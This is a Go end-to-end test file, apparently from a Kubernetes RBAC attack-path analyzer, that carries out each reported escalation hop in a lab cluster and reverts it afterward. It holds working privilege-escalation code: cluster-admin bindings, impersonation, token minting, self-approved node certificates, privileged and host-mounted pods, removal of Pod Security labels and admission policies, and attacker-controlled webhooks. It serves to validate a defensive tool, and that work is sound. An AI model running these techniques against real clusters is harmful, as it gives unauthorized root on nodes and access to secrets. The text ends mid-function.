//go:build cluster

package e2e

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/rest"

	"github.com/gabion-k8s/gabion/internal/report"
)

// An attack is the carrying out of one path.
type attack struct {
	*lab
	patience time.Duration
	// node is the one to become root on: what follows needs that one.
	node  string
	after []func()
}

// An executor carries out a hop, as whoever it starts from.
type executor func(a *attack, s self, h report.Hop) (self, error)

// executors are by technique.
func executors() map[string]executor {
	return map[string]executor{
		"bound":                (*attack).bound,
		"read-secrets":         (*attack).readSecrets,
		"create-token":         (*attack).createToken,
		"impersonate":          (*attack).impersonate,
		"bind":                 (*attack).bind,
		"escalate":             (*attack).escalate,
		"create-pods":          (*attack).createPod,
		"controller-templates": (*attack).template,
		"exec":                 (*attack).connect,
		"attach":               (*attack).connect,
		"ephemeral-containers": (*attack).debug,
		"patch-pods":           (*attack).image,
		"read-token-secret":    (*attack).readToken,
		"mint-token-secret":    (*attack).mintToken,
		"approve-certificate":  (*attack).approve,
		"node-certificate":     (*attack).join,
		"nodes-proxy":          (*attack).proxy,
		"hostpath-volume":      (*attack).volume,
		"relabel-namespace":    (*attack).relabel,
		"lift-policy":          (*attack).lift,
		"new-namespace":        (*attack).found,
		"mutating-webhook":     (*attack).mutate,
		"mutating-policy":      (*attack).mutateByPolicy,
		"validating-webhook":   (*attack).listen,
		"conversion-webhook":   (*attack).convert,
		"operator-object":      (*attack).operate,
		"node-tokens":          (*attack).nodeToken,
		"patch-nodes":          (*attack).steer,
		"control-plane-node":   (*attack).controlPlane,
	}
}

// later is done when the path has been carried out, the last first.
func (a *attack) later(f func()) { a.after = append(a.after, f) }

func (a *attack) undo() {
	for _, f := range slices.Backward(a.after) {
		f()
	}
	if len(a.after) > 0 {
		a.settle()
	}
}

// forget deletes an object later, if it is there then.
func (a *attack) forget(path string) {
	a.later(func() {
		a.admin.do("DELETE", path, object{"gracePeriodSeconds": 0, "propagationPolicy": "Background"}, nil)
	})
}

// restore puts the fields of an object that a merge patch changes back later.
func (a *attack) restore(path string, fields ...string) {
	var o unstructured.Unstructured
	if a.admin.do("GET", path, nil, &o.Object) != nil {
		return
	}
	old := object{}
	for _, f := range fields {
		value, _, _ := unstructured.NestedFieldCopy(o.Object, strings.Split(f, ".")...)
		unstructured.SetNestedField(old, value, strings.Split(f, ".")...)
	}
	a.later(func() { a.must(a.admin.do("PATCH", path, old, nil)) })
}

// wait tries until there is no error, or patience is at its end.
func (a *attack) wait(try func() error) error {
	for end := time.Now().Add(a.patience); ; time.Sleep(50 * time.Millisecond) {
		err := try()
		if err == nil || time.Now().After(end) || a.patience == impatient && (apierrors.IsForbidden(err) || apierrors.IsInvalid(err)) {
			return err
		}
	}
}

func (a *attack) fresh(prefix string) string {
	a.attacks++
	return fmt.Sprintf("%s-%d", prefix, a.attacks)
}

// choose finds the node that the rest of a path needs.
func (a *attack) choose(rest []report.Hop) error {
	a.node = ""
	for _, h := range rest {
		switch h.Technique {
		case "control-plane-node":
			a.node = a.anyMaster()
		case "node-tokens":
			ns, name := account(h.To)
			pods, err := a.pods(ns)
			if err != nil {
				return err
			}
			for _, p := range pods {
				if p.Spec.ServiceAccountName == name {
					a.node = p.Spec.NodeName
				}
			}
		}
		if a.node != "" {
			return nil
		}
	}
	return nil
}

// anyNode is the node that is wanted, or some node.
func (a *attack) anyNode() string {
	if a.node != "" {
		return a.node
	}
	for _, o := range a.objects {
		if o.GetKind() == "Node" {
			return o.GetName()
		}
	}
	return "one"
}

func permission(h report.Hop) report.Permission {
	if h.Permission == nil {
		return report.Permission{}
	}
	return *h.Permission
}

// where is the namespace of a hop.
func where(h report.Hop) string {
	if ns := permission(h).Namespace; ns != "" {
		return ns
	}
	if ns, ok := strings.CutPrefix(h.To, "secrets:"); ok {
		return ns
	}
	if ns, _ := account(h.To); ns != "" {
		return ns
	}
	return "team"
}

// change sends the request of a permission that changes an object.
func (s self) change(p report.Permission, name string, whole, patch object, out any) error {
	path := at(p.APIGroup, p.Resource, p.Namespace, name)
	if p.Verb == "update" {
		return s.do("PUT", path, whole, out)
	}
	return s.do("PATCH", path, patch, out)
}

// come is for techniques that give rights: it comes by them to what the hop leads
// to, in the plainest way.
func (a *attack) come(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	switch {
	case h.To == "node":
		ns := where(h)
		if err := a.wait(func() error { return a.unlabel(s, report.Permission{Verb: "patch", Name: ns}) }); err != nil {
			return s, err
		}
		return a.createPod(s, h)
	case strings.HasPrefix(h.To, "secrets:"):
		var next self
		err := a.wait(func() (err error) { next, err = a.readSecrets(s, h); return err })
		return next, err
	case name != "":
		var next self
		err := a.wait(func() (err error) { next, err = a.token(s, ns, name); return err })
		return next, err
	}
	return s, nil
}

func (a *attack) bound(s self, h report.Hop) (self, error) { return a.come(s, h) }

func (a *attack) readSecrets(s self, h report.Hop) (self, error) {
	data, err := s.read(permission(h).Verb, where(h), planted)
	s.secret = string(data["value"])
	return s, err
}

// read gets a Secret by one of the verbs that show it.
func (s self) read(verb, ns, name string) (map[string][]byte, error) {
	path := at("", "secrets", ns, "")
	switch verb {
	case "list":
		var list corev1.SecretList
		err := s.do("GET", path, nil, &list)
		for _, x := range list.Items {
			if x.Name == name {
				return x.Data, err
			}
		}
		return nil, err
	case "watch":
		var event struct{ Object corev1.Secret }
		err := s.do("GET", path+"?watch=1&timeoutSeconds=1&fieldSelector=metadata.name="+name, nil, &event)
		return event.Object.Data, err
	}
	var secret corev1.Secret
	err := s.do("GET", path+"/"+name, nil, &secret)
	return secret.Data, err
}

func (a *attack) createToken(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	return a.token(s, ns, name)
}

func (a *attack) token(s self, ns, name string) (self, error) {
	var r struct{ Status struct{ Token string } }
	err := s.do("POST", at("", "serviceaccounts/token", ns, name), object{}, &r)
	return a.bearer(userName(ns, name), r.Status.Token), err
}

// userName is that of a ServiceAccount.
func userName(ns, name string) string { return "system:serviceaccount:" + ns + ":" + name }

// bearer is whoever a token says.
func (a *attack) bearer(name, token string) self {
	config := rest.AnonymousClientConfig(a.Config())
	config.BearerToken = token
	return self{name: name, config: config}
}

func (a *attack) impersonate(s self, h report.Hop) (self, error) {
	as := rest.ImpersonationConfig{UserName: permission(h).Name}
	if ns, name := account(h.To); name != "" {
		as.UserName = userName(ns, name)
	}
	if permission(h).Resource == "groups" {
		as.Groups, as.UserName = []string{permission(h).Name}, "anybody"
		also := h.Also[0].Permission
		if also.Name != "" {
			as.UserName = also.Name
		}
		if also.Resource == "serviceaccounts" {
			as.UserName = userName(also.Namespace, as.UserName)
		}
		if h.To == "system:nodes" {
			as.UserName = "system:node:" + a.anyNode()
		}
	}
	s.name, s.config = h.To, rest.CopyConfig(s.config)
	s.config.Impersonate = as
	return a.come(s, h)
}

// me is an attacker as the subject of a binding.
func (s self) me() object {
	return object{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": s.name}
}

const rbacGroup = "rbac.authorization.k8s.io"

func (a *attack) bind(s self, h report.Hop) (self, error) {
	write := report.Permission{Verb: "create", APIGroup: rbacGroup, Resource: "clusterrolebindings"}
	kind, name := "ClusterRole", "cluster-admin"
	if h.Permission != nil {
		write, name = h.Also[0].Permission, h.Permission.Name
		if h.Permission.Resource == "roles" {
			kind = "Role"
		}
	}
	var err error
	if write.Verb == "create" {
		n := a.fresh("attack")
		a.forget(at(rbacGroup, write.Resource, write.Namespace, n))
		err = s.do("POST", at(rbacGroup, write.Resource, write.Namespace, ""), object{
			"metadata": object{"name": n}, "subjects": []object{s.me()},
			"roleRef": object{"apiGroup": rbacGroup, "kind": kind, "name": name},
		}, nil)
	} else {
		path := at(rbacGroup, write.Resource, write.Namespace, write.Name)
		a.restore(path, "subjects")
		err = s.do("PATCH", path, object{"subjects": []object{s.me()}}, nil)
	}
	if err != nil {
		return s, err
	}
	return a.come(s, h)
}

func (a *attack) escalate(s self, h report.Hop) (self, error) {
	p := report.Permission{Verb: "patch", APIGroup: rbacGroup, Resource: "clusterroles", Name: "ci"}
	if h.Permission != nil {
		p = *h.Permission
		p.Verb = h.Also[0].Permission.Verb
	}
	if p.Resource == "clusterroles" {
		p.Namespace = ""
	}
	all := []object{{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}
	meta := object{"name": p.Name, "labels": a.collected()}
	if p.Verb == "create" {
		meta["name"] = a.fresh("attack")
		a.forget(at(p.APIGroup, p.Resource, p.Namespace, meta["name"].(string)))
		if err := s.do("POST", at(p.APIGroup, p.Resource, p.Namespace, ""), object{"metadata": meta, "rules": all}, nil); err != nil {
			return s, err
		}
		return a.come(s, h)
	}
	a.restore(at(p.APIGroup, p.Resource, p.Namespace, p.Name), "rules", "aggregationRule", "metadata.labels")
	if err := s.change(p, p.Name, object{"metadata": meta, "rules": all}, object{"metadata": object{"labels": meta["labels"]}, "rules": all}, nil); err != nil {
		return s, err
	}
	return a.come(s, h)
}

// collected are the labels by which the aggregated roles of an example collect
// others, and view.
func (a *attack) collected() object {
	set := object{"rbac.authorization.k8s.io/aggregate-to-view": "true"}
	for _, o := range a.objects {
		selectors, _, _ := unstructured.NestedSlice(o.Object, "aggregationRule", "clusterRoleSelectors")
		for _, s := range selectors {
			wanted, _, _ := unstructured.NestedMap(s.(object), "matchLabels")
			maps.Copy(set, wanted)
		}
	}
	return set
}

// plainSpec is what a pod does that any level lets pass.
func plainSpec(account string) object {
	return object{
		"serviceAccountName": account,
		"securityContext":    object{"runAsNonRoot": true, "runAsUser": 1000, "seccompProfile": object{"type": "RuntimeDefault"}},
		"containers": []object{{"name": "main", "image": image, "securityContext": object{
			"allowPrivilegeEscalation": false, "capabilities": object{"drop": []string{"ALL"}}}}},
		"terminationGracePeriodSeconds": 0,
	}
}

// image is from the registry that some examples ask for.
const image = "registry.internal/tool:1"

// rootSpecs are those of pods that are root on a node, in three ways.
func rootSpecs(node string) []object {
	spec := func(extra, container object) object {
		s := object{"nodeName": node, "terminationGracePeriodSeconds": 0}
		maps.Copy(s, extra)
		c := object{"name": "main", "image": image}
		maps.Copy(c, container)
		s["containers"] = []object{c}
		return s
	}
	return []object{
		spec(nil, object{"securityContext": object{"privileged": true}}),
		spec(object{"volumes": []object{{"name": "node", "hostPath": object{"path": "/"}}}}, object{"volumeMounts": []object{{"name": "node", "mountPath": "/node"}}}),
		spec(object{"hostPID": true}, object{"securityContext": object{"capabilities": object{"add": []string{"SYS_ADMIN"}}}}),
	}
}

// specs are those of pods which lead to a target, any of them.
func (a *attack) specs(to string) []object {
	if to == "node" {
		return rootSpecs(a.anyNode())
	}
	if ns, name := account(to); ns != "" {
		return []object{plainSpec(name)}
	}
	spec := plainSpec("default")
	spec["volumes"] = []object{{"name": "loot", "secret": object{"secretName": planted}}}
	spec["containers"].([]object)[0]["volumeMounts"] = []object{{"name": "loot", "mountPath": "/loot"}}
	return []object{spec}
}

// reap is what the pods with a label lead to, as soon as one is on a node.
func (a *attack) reap(ns, label string, s self, to string) (next self, err error) {
	err = a.wait(func() error {
		pods, err := a.pods(ns)
		if err != nil {
			return err
		}
		for _, p := range pods {
			if p.Labels["attack"] == label && p.Spec.NodeName != "" {
				next, err = a.within(&p, p.Spec.Containers[0].Name, s, to)
				return err
			}
		}
		return fmt.Errorf("%w: no pod runs: %s", errNothing, a.failures(ns))
	})
	return next, err
}

// failures are the last words of controllers about pods that they cannot make.
func (a *attack) failures(ns string) string {
	var list corev1.EventList
	text := ""
	if a.admin.do("GET", at("", "events", ns, ""), nil, &list) == nil {
		for _, e := range list.Items {
			if e.Reason == "FailedCreate" {
				text = e.Message
			}
		}
	}
	return text
}

// within is what somebody in a container becomes.
func (a *attack) within(pod *corev1.Pod, container string, s self, to string) (self, error) {
	node := a.nodes[pod.Spec.NodeName]
	c := containerOf(pod, container)
	if node == nil || c == nil {
		return s, fmt.Errorf("no container %s of pod %s on a node", container, pod.Name)
	}
	found, err := node.inside(pod, c)
	if err != nil {
		return s, err
	}
	return a.loot(found, node, s, to)
}

func (a *attack) loot(found loot, node *kubelet, s self, to string) (self, error) {
	switch {
	case to == "node":
		if !found.Root {
			return s, fmt.Errorf("%w: the container is not root on the node", errNothing)
		}
		return node.self, nil
	case strings.HasPrefix(to, "secrets:"):
		s.secret = found.Secret
		return s, nil
	case found.Token == "":
		return s, fmt.Errorf("%w: the container has no token", errNothing)
	}
	return a.bearer(to, found.Token), nil
}

func (a *attack) createPod(s self, h report.Hop) (self, error) {
	return a.runs(s, where(h), a.specs(h.To), h.To)
}

// runs creates a pod of one of some kinds; a guard that was just lifted may refuse
// them for a moment.
func (a *attack) runs(s self, ns string, specs []object, to string) (self, error) {
	name := a.fresh("attack")
	a.forget(at("", "pods", ns, name))
	err := a.wait(func() (err error) {
		for _, spec := range specs {
			err = s.do("POST", at("", "pods", ns, ""), object{"metadata": object{"name": name, "labels": object{"attack": name}}, "spec": spec}, nil)
			if err == nil {
				return nil
			}
		}
		return err
	})
	if err != nil {
		return s, err
	}
	return a.reap(ns, name, s, to)
}

// template creates a controller, or changes one that is there.
func (a *attack) template(s self, h report.Hop) (self, error) {
	p := report.Permission{Verb: "create", APIGroup: "apps", Resource: "deployments", Namespace: where(h)}
	if h.Permission != nil {
		p = *h.Permission
	}
	label := a.fresh("attack")
	labels := object{"attack": label}
	spec := a.specs(h.To)[0]
	delete(spec, "terminationGracePeriodSeconds")
	template := object{"metadata": object{"labels": labels}, "spec": spec}
	path := at(p.APIGroup, p.Resource, p.Namespace, "")
	if p.Verb != "create" {
		path += "/" + p.Name
		// The labels that the controller selects by stay.
		var old unstructured.Unstructured
		if err := a.admin.do("GET", path, nil, &old.Object); err != nil {
			return s, err
		}
		back := old.DeepCopy()
		a.later(func() {
			fresh(back)
			a.must(a.admin.do("PUT", path, back.Object, nil))
			a.gone(p.Namespace, label)
		})
		if err := s.do("PATCH", path, object{"spec": object{"template": template}}, nil); err != nil {
			return s, err
		}
		return a.reap(p.Namespace, label, s, h.To)
	}
	body := object{"template": template, "selector": object{"matchLabels": labels}}
	switch p.Resource {
	case "replicationcontrollers":
		body["selector"] = labels
	case "jobs":
		delete(body, "selector")
		spec["restartPolicy"] = "Never"
	case "cronjobs":
		spec["restartPolicy"] = "Never"
		body = object{"schedule": "* * * * *", "jobTemplate": object{"spec": object{"template": template}}}
		if a.patience == patient {
			defer func(before time.Duration) { a.patience = before }(a.patience)
			a.patience = 75 * time.Second
		}
	}
	a.later(func() { a.gone(p.Namespace, label) })
	a.forget(path + "/" + label)
	if err := s.do("POST", path, object{"metadata": object{"name": label}, "spec": body}, nil); err != nil {
		return s, err
	}
	return a.reap(p.Namespace, label, s, h.To)
}

// gone waits until no pod has a label.
func (a *attack) gone(ns, label string) {
	a.must(a.eventually(func() error {
		var list corev1.PodList
		err := a.admin.do("GET", at("", "pods", ns, "")+"?labelSelector=attack="+label, nil, &list)
		if len(list.Items) > 0 {
			return again{fmt.Errorf("pod %s is still there", list.Items[0].Name)}
		}
		return err
	}))
}

// victim finds a running pod by which a hop leads on, as soon as there is one: a
// controller may be replacing it. The attacker knows its name, and need not be
// allowed to look for it.
func (a *attack) victim(h report.Hop) (pod *corev1.Pod, err error) {
	err = a.wait(func() error {
		pod, err = a.runningVictim(h)
		return err
	})
	return pod, err
}

func (a *attack) runningVictim(h report.Hop) (*corev1.Pod, error) {
	ns, name := account(h.To)
	pods, err := a.pods(permission(h).Namespace)
	if err != nil {
		return nil, err
	}
	only := permission(h).Name
	// A pod that the attacker has made is as good, where it took the place of all others.
	var made *corev1.Pod
	for _, p := range pods {
		own := p.Labels["attack"] != ""
		root := slices.ContainsFunc(p.Spec.Containers, func(c corev1.Container) bool { return isRoot(&p, &c) })
		switch {
		case own && h.Technique == "ephemeral-containers" && h.To == "node" && p.Spec.NodeName != "" && only == "" && a.node == "":
			made = &p
		case own || p.Spec.NodeName == "" || a.node != "" && h.To == "node" && p.Spec.NodeName != a.node:
		case only != "" && only != p.Name && only != p.Spec.NodeName:
		case name != "" && p.Namespace == ns && p.Spec.ServiceAccountName == name, h.To == "node" && (root || h.Technique == "ephemeral-containers"):
			return &p, nil
		}
	}
	if made != nil {
		return made, nil
	}
	return nil, fmt.Errorf("no pod leads from %s by %s to %s", h.From, h.Technique, h.To)
}

// connect runs a command in a pod, or attaches to it.
func (a *attack) connect(s self, h report.Hop) (self, error) {
	pod, err := a.victim(h)
	if err != nil {
		return s, err
	}
	method := "POST"
	if permission(h).Verb == "get" {
		method = "GET"
	}
	path := at("", "pods/"+h.Technique, pod.Namespace, pod.Name) + "?stdin=true&stdout=true&container=" + pod.Spec.Containers[0].Name
	if h.Technique == "exec" {
		path += "&command=sh"
	}
	var found loot
	if err := s.upgrade(method, path, &found); err != nil {
		return s, err
	}
	return a.loot(found, a.nodes[pod.Spec.NodeName], s, h.To)
}

func (a *attack) proxy(s self, h report.Hop) (self, error) {
	pod, err := a.victim(h)
	if err != nil {
		return s, err
	}
	path := at("", "nodes/proxy", "", pod.Spec.NodeName) + "/%s/" + pod.Namespace + "/" + pod.Name + "/" + pod.Spec.Containers[0].Name + "?command=sh&output=1"
	var found loot
	if permission(h).Verb == "create" {
		err = s.do("POST", fmt.Sprintf(path, "run"), nil, &found)
	} else {
		err = s.upgrade("GET", fmt.Sprintf(path, "exec"), &found)
	}
	if err != nil {
		return s, err
	}
	return a.loot(found, a.nodes[pod.Spec.NodeName], s, h.To)
}

// debug adds a container to a pod. What the pod mounts is in the answer to a
// change of nothing, which takes no right to read.
func (a *attack) debug(s self, h report.Hop) (self, error) {
	victim, err := a.victim(h)
	if err != nil {
		return s, err
	}
	p := permission(h)
	p.Resource, p.Namespace = "pods/ephemeralcontainers", victim.Namespace
	var pod corev1.Pod
	name := object{"name": victim.Name}
	if err := s.change(p, victim.Name, object{"metadata": name, "spec": object{"ephemeralContainers": victim.Spec.EphemeralContainers}}, object{}, &pod); err != nil {
		return s, err
	}
	c := object{"name": a.fresh("attack"), "image": image, "securityContext": object{"privileged": true}}
	if h.To != "node" {
		c["securityContext"] = object{"runAsNonRoot": true, "runAsUser": 1000, "allowPrivilegeEscalation": false,
			"capabilities": object{"drop": []string{"ALL"}}, "seccompProfile": object{"type": "RuntimeDefault"}}
		for _, v := range pod.Spec.Volumes {
			c["volumeMounts"] = []object{{"name": v.Name, "mountPath": "/loot"}}
		}
	}
	list := []any{c}
	for _, old := range pod.Spec.EphemeralContainers {
		list = append(list, old)
	}
	spec := object{"ephemeralContainers": list}
	if err := s.change(p, victim.Name, object{"metadata": name, "spec": spec}, object{"spec": spec}, &pod); err != nil {
		return s, err
	}
	a.later(func() { // such a container stays as long as its pod
		a.admin.do("DELETE", at("", "pods", victim.Namespace, victim.Name), object{"gracePeriodSeconds": 0}, nil)
		a.awaitPods()
	})
	return a.within(&pod, c["name"].(string), s, h.To)
}

// image changes that of a running pod.
func (a *attack) image(s self, h report.Hop) (self, error) {
	victim, err := a.victim(h)
	if err != nil {
		return s, err
	}
	path := at("", "pods", victim.Namespace, victim.Name)
	if permission(h).Verb == "update" {
		whole := victim.DeepCopy()
		whole.Spec.Containers[0].Image = image
		err = s.do("PUT", path, whole, nil)
	} else {
		// A merge patch replaces the list: it is the answer to a change of nothing.
		var pod unstructured.Unstructured
		if err := s.do("PATCH", path, object{}, &pod.Object); err != nil {
			return s, err
		}
		list, _, _ := unstructured.NestedSlice(pod.Object, "spec", "containers")
		list[0].(object)["image"] = image
		err = s.do("PATCH", path, object{"spec": object{"containers": list}}, nil)
	}
	if err != nil {
		return s, err
	}
	var now corev1.Pod
	if err := a.admin.do("GET", path, nil, &now); err != nil {
		return s, err
	}
	if now.Spec.Containers[0].Image != image {
		return s, fmt.Errorf("%w: the image is %s", errNothing, now.Spec.Containers[0].Image)
	}
	return a.within(&now, now.Spec.Containers[0].Name, s, h.To)
}

func (a *attack) readToken(s self, h report.Hop) (self, error) {
	name := permission(h).Name
	if name == "" {
		name = "boss-token"
	}
	return a.stored(s, permission(h).Verb, where(h), name, h.To)
}

// stored is whoever the token in a Secret is of.
func (a *attack) stored(s self, verb, ns, name, to string) (next self, err error) {
	err = a.wait(func() error {
		data, err := s.read(verb, ns, name)
		if err == nil && len(data["token"]) == 0 {
			err = fmt.Errorf("%w: Secret %s holds no token", errNothing, name)
		}
		next = a.bearer(to, string(data["token"]))
		return err
	})
	return next, err
}

func (a *attack) mintToken(s self, h report.Hop) (self, error) {
	read := report.Permission{Verb: "get"}
	if len(h.Also) > 0 {
		read = h.Also[0].Permission
	}
	name := read.Name
	if name == "" {
		name = a.fresh("attack")
	}
	ns, account := account(h.To)
	a.forget(at("", "secrets", ns, name))
	err := s.do("POST", at("", "secrets", ns, ""), object{"type": "kubernetes.io/service-account-token",
		"metadata": object{"name": name, "annotations": object{"kubernetes.io/service-account.name": account}}}, nil)
	if err != nil {
		return s, err
	}
	return a.stored(s, read.Verb, ns, name, h.To)
}

const (
	certificates  = "certificates.k8s.io"
	clientSigner  = "kubernetes.io/kube-apiserver-client"
	kubeletSigner = "kubernetes.io/kube-apiserver-client-kubelet"
)

// request creates a request for a certificate, and gives what makes a certificate
// the credentials of its subject.
func (a *attack) request(s self, signer string, subject pkix.Name) (csr *unstructured.Unstructured, with func(certificate string) self, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subject}, key)
	if err != nil {
		return nil, nil, err
	}
	private, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return nil, nil, err
	}
	name := a.fresh("attack")
	a.forget(at(certificates, "certificatesigningrequests", "", name))
	csr = &unstructured.Unstructured{}
	err = s.do("POST", at(certificates, "certificatesigningrequests", "", ""), object{
		"metadata": object{"name": name},
		"spec": object{"signerName": signer, "usages": []string{"digital signature", "client auth"},
			"request": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})},
	}, &csr.Object)
	return csr, func(certificate string) self {
		var chain []byte
		json.Unmarshal([]byte(`"`+certificate+`"`), &chain)
		config := rest.AnonymousClientConfig(a.Config())
		config.CertData, config.KeyData = chain, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private})
		return self{name: subject.CommonName, config: config}
	}, err
}

// approve approves a request of its own. It sees the certificate in the answer to
// approving once more, which takes no right to read.
func (a *attack) approve(s self, h report.Hop) (self, error) {
	signer, write := permission(h).Name, report.Permission{Verb: "update"}
	if len(h.Also) > 0 {
		write = h.Also[0].Permission
	}
	write.APIGroup, write.Resource = certificates, "certificatesigningrequests/approval"
	subject := pkix.Name{CommonName: h.To}
	switch {
	case h.To == "system:nodes":
		subject = pkix.Name{CommonName: "system:node:" + a.anyNode(), Organization: []string{"system:nodes"}}
	case !strings.Contains(h.To, ":serviceaccount:") && strings.HasPrefix(h.To, "system:"):
		subject = pkix.Name{CommonName: "somebody", Organization: []string{h.To}}
	}
	if signer == "" || strings.HasSuffix(signer, "*") {
		signer = clientSigner
	}
	csr, with, err := a.request(s, signer, subject)
	if err != nil {
		return s, err
	}
	conditions := []any{object{"type": "Approved", "status": "True", "reason": "Attack"}}
	unstructured.RemoveNestedField(csr.Object, "metadata", "resourceVersion")
	unstructured.SetNestedSlice(csr.Object, conditions, "status", "conditions")
	var next self
	err = a.wait(func() error {
		var now unstructured.Unstructured
		if err := s.change(write, csr.GetName(), csr.Object, object{"status": object{"conditions": conditions}}, &now.Object); err != nil {
			return err
		}
		certificate, _, _ := unstructured.NestedString(now.Object, "status", "certificate")
		if certificate == "" {
			return fmt.Errorf("%w: nobody signed", errNothing)
		}
		next = with(certificate)
		return nil
	})
	if h.To == "system:nodes" {
		next.node = a.anyNode()
	}
	return next, err
}

// join asks for the certificate of a node that is there already.
func (a *attack) join(s self, h report.Hop) (self, error) {
	csr, with, err := a.request(s, kubeletSigner, pkix.Name{CommonName: "system:node:" + a.anyNode(), Organization: []string{"system:nodes"}})
	if err != nil {
		return s, err
	}
	var next self
	err = a.wait(func() error {
		var now unstructured.Unstructured
		if err := s.do("GET", at(certificates, "certificatesigningrequests", "", csr.GetName()), nil, &now.Object); err != nil {
			return err
		}
		certificate, _, _ := unstructured.NestedString(now.Object, "status", "certificate")
		if certificate == "" {
			return fmt.Errorf("%w: nobody approved", errNothing)
		}
		next = with(certificate)
		return nil
	})
	next.node = a.anyNode()
	return next, err
}

// found creates a namespace and is root on a node from there.
func (a *attack) found(s self, h report.Hop) (self, error) {
	name := a.fresh("attack")
	a.forget(at("", "namespaces", "", name))
	if err := s.do("POST", at("", "namespaces", "", ""), object{"metadata": object{"name": name}}, nil); err != nil {
		return s, err
	}
	return a.runs(s, name, rootSpecs(a.anyNode()), h.To)
}

// volume claims a folder of the node: that of containerd's socket, which the group
// of root may write to. So the pod passes any level.
func (a *attack) volume(s self, h report.Hop) (self, error) {
	ns, name := "team", a.fresh("attack")
	if len(h.Also) > 0 {
		ns = h.Also[0].Permission.Namespace
	}
	a.forget(at("", "persistentvolumes", "", name))
	size := object{"storage": "1Gi"}
	err := s.do("POST", at("", "persistentvolumes", "", ""), object{"metadata": object{"name": name}, "spec": object{
		"capacity": size, "accessModes": []string{"ReadWriteOnce"}, "hostPath": object{"path": "/run/containerd"}, "storageClassName": "none-" + name,
	}}, nil)
	if err != nil {
		return s, err
	}
	a.forget(at("", "persistentvolumeclaims", ns, name))
	err = s.do("POST", at("", "persistentvolumeclaims", ns, ""), object{"metadata": object{"name": name}, "spec": object{
		"resources": object{"requests": size}, "accessModes": []string{"ReadWriteOnce"}, "volumeName": name, "storageClassName": "none-" + name,
	}}, nil)
	if err != nil {
		return s, err
	}
	spec := plainSpec("default")
	spec["securityContext"].(object)["runAsGroup"] = 0
	spec["volumes"] = []object{{"name": "node", "persistentVolumeClaim": object{"claimName": name}}}
	spec["containers"].([]object)[0]["volumeMounts"] = []object{{"name": "node", "mountPath": "/node"}}
	return a.runs(s, ns, []object{spec}, "node")
}

func (a *attack) relabel(s self, h report.Hop) (self, error) {
	p := permission(h)
	if p.Name == "" {
		p = report.Permission{Verb: "patch", Resource: "namespaces", Name: where(h)}
	}
	if err := a.unlabel(s, p); err != nil {
		return s, err
	}
	return a.runs(s, p.Name, rootSpecs(a.anyNode()), h.To)
}

// unlabel takes the Pod Security level of a namespace away.
func (a *attack) unlabel(s self, p report.Permission) error {
	p.Resource, p.Namespace = "namespaces", ""
	var before corev1.Namespace
	if err := a.admin.do("GET", at("", "namespaces", "", p.Name), nil, &before); err != nil {
		return err
	}
	a.later(func() { a.level(p.Name, before.Labels[enforce]) })
	return s.change(p, p.Name, object{"metadata": object{"name": p.Name}}, object{"metadata": object{"labels": object{enforce: nil}}}, nil)
}

func (a *attack) lift(s self, h report.Hop) (self, error) {
	p, ns := permission(h), "team"
	if h.Permission == nil {
		p = report.Permission{Verb: "delete", APIGroup: "admissionregistration.k8s.io", Resource: "validatingadmissionpolicies", Name: "none"}
	} else {
		ns = h.Also[0].Permission.Namespace
	}
	path := at(p.APIGroup, p.Resource, "", p.Name)
	var old unstructured.Unstructured
	if a.admin.do("GET", path, nil, &old.Object) == nil {
		a.later(func() {
			a.admin.do("DELETE", path, nil, nil)
			fresh(&old)
			a.must(a.admin.do("POST", at(p.APIGroup, p.Resource, "", ""), old.Object, nil))
			a.settleAdmission(true)
		})
	}
	var err error
	switch {
	case p.Verb == "delete":
		err = s.do("DELETE", path, nil, nil)
	case strings.HasSuffix(p.Resource, "bindings"):
		err = s.do("PATCH", path, object{"spec": object{"validationActions": []string{"Audit"}}}, nil)
	default:
		err = s.do("PATCH", path, object{"spec": object{"validations": []object{{"expression": "true"}}}}, nil)
	}
	if err != nil {
		return s, err
	}
	return a.runs(s, ns, rootSpecs(a.anyNode()), h.To)
}

// webhook makes a configuration that sends objects to the attacker, or turns one
// that is there.
func (a *attack) webhook(s self, p report.Permission, rule object) error {
	hooks := []object{{
		"name": "attack.example.com", "admissionReviewVersions": []string{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore",
		"clientConfig": object{"url": a.hook.url, "caBundle": a.hook.ca}, "rules": []object{rule},
	}}
	if p.Verb == "create" || p.Verb == "" {
		name := a.fresh("attack")
		a.forget(at(p.APIGroup, p.Resource, "", name))
		return s.do("POST", at(p.APIGroup, p.Resource, "", ""), object{"metadata": object{"name": name}, "webhooks": hooks}, nil)
	}
	name := p.Name
	if name == "" {
		name = "guard"
	}
	a.restore(at(p.APIGroup, p.Resource, "", name), "webhooks")
	return s.change(p, name, object{"metadata": object{"name": name}, "webhooks": hooks}, object{"webhooks": hooks}, nil)
}

func (a *attack) mutate(s self, h report.Hop) (self, error) {
	a.hook.mutex.Lock()
	a.hook.add = s.me()
	a.hook.mutex.Unlock()
	p := permission(h)
	p.APIGroup, p.Resource = "admissionregistration.k8s.io", "mutatingwebhookconfigurations"
	err := a.webhook(s, p, object{"apiGroups": []string{rbacGroup}, "apiVersions": []string{"*"},
		"operations": []string{"CREATE"}, "resources": []string{"clusterrolebindings"}})
	if err != nil {
		return s, err
	}
	return a.promoted(s, h)
}

func (a *attack) mutateByPolicy(s self, h report.Hop) (self, error) {
	group, name := "admissionregistration.k8s.io", a.fresh("attack")
	a.forget(at(group, "mutatingadmissionpolicies", "", name))
